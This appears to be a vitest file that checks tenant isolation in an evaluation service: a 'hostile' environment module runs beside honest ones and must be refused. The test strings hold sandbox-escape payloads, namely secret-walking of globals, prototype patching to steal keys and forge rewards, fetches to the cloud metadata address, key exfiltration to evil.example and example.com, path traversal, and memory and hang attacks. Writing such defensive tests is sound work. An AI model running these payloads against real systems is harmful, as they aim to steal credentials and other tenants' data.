import { reset } from "cloudflare:test";
import { afterAll, afterEach, beforeEach, describe, expect, it } from "vitest";
import type { JsonObject, RunConfig } from "../../../src/config/plan/run-config.ts";
import { sha256Hex } from "../../../src/config/sha256.ts";
import { registerIsolated } from "../../../src/offering/isolated-modules.ts";
import { Fleet } from "../support/fleet.ts";
import { createRun, essenceOf, expectComplete, rowsOf, viewOf } from "../support/runs.ts";
import { ScriptedModel } from "../support/scripted-model.ts";
import { run, service, setVars, STEADY } from "../support/service.ts";

/** A value of this service that no environment declares, and one that the hostile one does. */
const SECRETS = { MODELS_API_KEY: "sk-victim-of-the-service", MAP_API_KEY: "sk-victim-of-the-map" };

beforeEach(() => {
  setVars(STEADY);
  Object.assign(service, SECRETS, { WALLED_SILENCE_MS: "1500" });
});
afterEach(async () => {
  await fleet?.close();
  await reset();
});
afterAll(() => {
  registerIsolated([]);
  for (const name of [...Object.keys(SECRETS), "WALLED_SILENCE_MS"]) delete (service as unknown as Record<string, unknown>)[name];
});

let fleet: Fleet | undefined;

/** A module of an environment; `top` stands before it. Three examples whose `info` is what `info` comes to, and a reward function. */
const moduleOf = (id: string, { top = "", info = "({})", score = "return 1;" }: { top?: string; info?: string; score?: string }): string =>
  `import { defineEnvironment, Rubric, SingleTurnEnv, z } from "./lib/index.js";
${top}
export default defineEnvironment({
  id: "${id}", version: "1.0.0", description: "", args: z.object({}),
  load: (_args, { keys, rows, client }) => new SingleTurnEnv({
    dataset: async function* () { for (const answer of ["0", "1", "2"]) yield { question: "${id} asks " + answer, answer, info: await (${info}) }; },
    rubric: new Rubric([async function scored({ answer, state, completion }) { ${score} }]),
  }),
});`;

async function registered(modules: Readonly<Record<string, string>>): Promise<void> {
  const made = Object.entries(modules).map(async ([id, text]) => ({
    facts: { id, version: "1.0.0", description: "", defaults: {}, keys: id === "evil" ? ["MAP_API_KEY"] : [], source: await sha256Hex(text) },
    code: async () => ({ text, map: "" }),
  }));
  registerIsolated(await Promise.all(made));
}

interface Outcome {
  readonly evil: RunConfig;
  readonly rows: Awaited<ReturnType<typeof rowsOf>>;
  /** Of every run: rows and events. */
  readonly texts: { readonly evil: string; readonly honest: string };
}

const eventsOf = async (id: string): Promise<string> => JSON.stringify(await run(id).events(0, 1_000));

const BUNDLED = { num_examples: 6, max_concurrent: 2 };

/** What the run of the bundled environment has for rows where no other is. */
async function rowsOfBundledAlone(): Promise<readonly JsonObject[]> {
  const quiet = new Fleet({ model: new ScriptedModel({ latencyMs: 1 }), executors: 1 });
  const config = await createRun(BUNDLED);
  quiet.start();
  await quiet.settled(config.run_id, 30_000);
  await quiet.close();
  const rows = (await expectComplete(config)).map((row) => essenceOf(row));
  expect(new Set(rows.map(({ error }) => error))).toEqual(new Set([null]));
  return rows;
}

/** The hostile environment, one of the package and another of an isolate, at once in one executor. All of them end, and the honest ones are what they are alone. */
async function besideHonest(evil: string): Promise<Outcome> {
  await registered({ evil, fair: moduleOf("fair", { score: "return answer === '2' ? 0 : 1;" }) });
  const alone = await rowsOfBundledAlone();
  fleet = new Fleet({ model: new ScriptedModel({ latencyMs: 5 }), executors: 1, budget: { requests: 16 } });
  const bundled = await createRun(BUNDLED);
  const hostile = await createRun({ env_id: "evil", wall: "evil", num_examples: 3, model: "evil", max_concurrent: 3 });
  const fair = await createRun({ env_id: "fair", wall: "fair", num_examples: 3, model: "fair", max_concurrent: 1 });
  const runs = [bundled, hostile, fair];
  fleet.start();
  for (const { run_id } of runs) await fleet.settled(run_id, 30_000);
  expect((await expectComplete(bundled)).map((row) => essenceOf(row))).toEqual(alone);
  expect((await expectComplete(fair)).map(({ example_id, reward, error }) => [example_id, reward, error])).toEqual([
    [0, 1, null],
    [1, 1, null],
    [2, 0, null],
  ]);
  const rows = await rowsOf(hostile);
  const others = await Promise.all([bundled, fair].map(async (each) => JSON.stringify(await rowsOf(each)) + (await eventsOf(each.run_id))));
  return { evil: hostile, rows, texts: { evil: JSON.stringify(rows) + (await eventsOf(hostile.run_id)), honest: others.join("") } };
}

/** What each of these comes to, or is refused with. */
const tried = (attempts: Readonly<Record<string, string>>): string => `(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries({ ${Object.entries(attempts)
    .map(([name, body]) => `${name}: async () => { ${body} }`)
    .join(", ")} })) {
    try { found[name] = "reached: " + String(await attempt()).slice(0, 300); } catch (error) { found[name] = "refused: " + error.message; }
  }
  return found;
})()`;

const outcomesOf = ({ rows }: Outcome): string[] => Object.values((rows[0] as unknown as { info: Record<string, string> }).info);
const errorsOf = ({ rows }: Outcome) =>
  rows.map(({ example_id, rollout_index, error }) => [example_id, rollout_index, (error as { error?: string } | null)?.error ?? null]);

describe("a hostile environment beside honest runs of the same service", () => {
  it("that walks everything it can reach finds its own question, and no key, binding, run or row of others", async () => {
    const walk = `(async () => {
      const seen = new Set(), found = [];
      const look = (value, depth) => {
        if (typeof value === "string") { if (/victim|LOCAL_SECRETS|reverse-text--/.test(value)) found.push(value); return; }
        if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value) || depth > 6 || seen.size > 50_000) return;
        seen.add(value);
        for (const key of Reflect.ownKeys(value)) { try { look(value[key], depth + 1); } catch {} }
        look(Object.getPrototypeOf(value), depth + 1);
      };
      look(globalThis, 0);
      for (const name of ["cloudflare:workers", "./lib/index.js", "./lib/runner.js", "./main.js", "node:process"]) { try { look(await import(name), 0); } catch {} }
      return { found: found.length, seen: seen.size > 500 };
    })()`;
    const outcome = await besideHonest(moduleOf("evil", { info: walk }));
    expect(outcome.rows.map(({ info }) => info)).toEqual(Array(3).fill({ found: 0, seen: true }));
  });

  it("that replaces prototypes and globals changes nothing but its own copy of them", async () => {
    const patched = `
      const grab = (value) => { try { const text = typeof value === "string" ? value : JSON.stringify(value); if (text?.includes("victim")) globalThis.loot = text; } catch {} };
      for (const [owner, name] of [[String.prototype, "trim"], [Array.prototype, "push"], [Promise.prototype, "then"], [Map.prototype, "get"], [Headers.prototype, "set"], [JSON, "parse"], [Object, "entries"]]) {
        const was = owner[name];
        owner[name] = function (...args) { grab(this); args.forEach(grab); return was.apply(this, args); };
      }
      const write = JSON.stringify;
      JSON.stringify = (...args) => { const text = write(...args); return typeof text === "string" ? text.replaceAll('"reward":0', '"reward":1') : text; };`;
    const outcome = await besideHonest(moduleOf("evil", { top: patched, info: "({ loot: globalThis.loot ?? null })", score: "return 0;" }));
    expect(outcome.rows.map(({ info }) => info)).toEqual(Array(3).fill({ loot: null }));
    const headers = new Headers();
    headers.set("a", " b ");
    expect([" x ".trim(), JSON.stringify({ reward: 0 }), headers.get("a")]).toEqual(["x", '{"reward":0}', "b"]);
  });

  it("that opens sockets, fetches public and private addresses, or has the service call them with its keys, is refused each of them", async () => {
    const attempts = {
      public: 'await fetch("https://example.com/?" + keys.MAP_API_KEY)',
      loopback: 'await fetch("http://127.0.0.1:80/")',
      metadata: 'await fetch("http://169.254.169.254/latest/meta-data/")',
      socket: 'await (await import("cloudflare:sockets")).connect("1.1.1.1:80").opened',
      websocket: 'await new Promise((ok, no) => { const w = new WebSocket("wss://example.com"); w.onopen = ok; w.onerror = () => no(new Error("closed")); })',
      dataset: 'for await (const row of rows({ dataset: "https://example.com/" + keys.MAP_API_KEY + ".jsonl" })(1)) return row;',
      judge:
        'const judge = client({ base_url: "https://evil.example/v1", api_key_var: "MODELS_API_KEY" }); return JSON.stringify(await judge.getResponse({ prompt: [{ role: "user", content: "x" }], model: "m", sampling_args: {}, tools: [] }));',
    };
    const outcome = await besideHonest(moduleOf("evil", { info: tried(attempts) }));
    expect(outcomesOf(outcome)).toHaveLength(7);
    for (const each of outcomesOf(outcome)) expect(each).toMatch(/^refused: /);
  });

  it("that names data of other teams, and uploads of its own team that the run does not name, is given none", async () => {
    const digest = "a".repeat(64);
    await service.BUCKET.put(`teams/other/datasets/${digest}`, '{"question":"victim"}\n');
    await service.BUCKET.put(`datasets/${digest}`, '{"question":"victim"}\n');
    const read = (reference: string): string => `for await (const row of rows({ dataset: ${JSON.stringify(reference)} })(1)) return JSON.stringify(row);`;
    const attempts = {
      upload: read(`sha256:${digest}`),
      path: read(`teams/other/datasets/${digest}`),
      climbing: read(`../other/${digest}`),
      service: read("http://127.0.0.1/evaluations"),
    };
    const outcome = await besideHonest(moduleOf("evil", { info: tried(attempts) }));
    for (const each of outcomesOf(outcome)) expect(each).toMatch(/^refused: /);
    expect(outcome.texts.evil).not.toContain('question\\":\\"victim');
  });

  it("that gives 200 MB in a row spoils that row and no other of its own", async () => {
    const outcome = await besideHonest(
      moduleOf("evil", {
        score: 'if (answer === "1") state.huge = "x".repeat(200 * 1024 * 1024); if (answer === "1") completion[0].content = state.huge; return 1;',
      }),
    );
    expect(errorsOf(outcome)).toEqual([
      [0, 0, null],
      [1, 0, "RowTooLargeError"],
      [2, 0, null],
    ]);
  });

  it("that never comes back loses the rollouts that wait for it, after the time that its silence may last", async () => {
    const outcome = await besideHonest(moduleOf("evil", { score: 'if (answer === "1") await new Promise((done) => setTimeout(done, 600_000)); return 1;' }));
    expect(errorsOf(outcome)).toEqual([
      [0, 0, null],
      [1, 0, expect.stringMatching(/environment_error|scorer_error|EnvironmentError/)],
      [2, 0, null],
    ]);
  });

  it("that says its rollouts are those of other examples is believed in none of it", async () => {
    const lies = `
      const write = JSON.stringify;
      JSON.stringify = (value, ...rest) => {
        const text = write(value, ...rest);
        return typeof text === "string" ? text.replaceAll('"example_id":1', '"example_id":0').replaceAll('"unit":2', '"unit":1').replaceAll('"rollout":0', '"rollout":5') : text;
      };`;
    const outcome = await besideHonest(moduleOf("evil", { top: lies }));
    const { status } = await viewOf(outcome.evil.run_id);
    expect(["COMPLETED", "FAILED"]).toContain(status);
    expect(outcome.texts.honest).not.toContain("evil");
  });

  it("that prints and returns its keys is shown in the log without them, and knows no others", async () => {
    const outcome = await besideHonest(
      moduleOf("evil", {
        info: "({ keys: Object.keys(keys) })",
        score: 'console.log("mine:", keys.MAP_API_KEY); throw new Error("broke with " + keys.MAP_API_KEY);',
      }),
    );
    expect(await eventsOf(outcome.evil.run_id)).toMatch(/\[env\] mine: \[secret\]/);
    expect(outcome.texts.evil).not.toContain("sk-victim-of-the-service");
    expect(outcome.texts.evil).not.toContain("sk-victim");
    expect(outcome.rows.map(({ info }) => info)).toEqual(Array(3).fill({ keys: ["MAP_API_KEY"] }));
  });
});
